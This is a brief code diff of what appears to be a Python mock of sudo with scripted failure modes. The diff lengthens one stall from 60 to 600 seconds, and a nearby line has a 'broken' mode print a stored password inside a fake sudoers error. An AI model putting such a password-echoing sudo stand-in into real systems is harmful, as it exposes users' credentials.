@@ -48,7 +48,7 @@ until = time.time() + 60
 while mode == "hesitant" and "-l" in words and state("mode") == "hesitant" and time.time() < until:
     time.sleep(0.02)
 if mode == "silent" and "-l" not in words:
-    time.sleep(60)
+    time.sleep(600)
 if mode == "broken":
     sys.exit("sudo: unable to open /etc/sudoers: what you typed was " + state("password"))
 if mode == "denied":
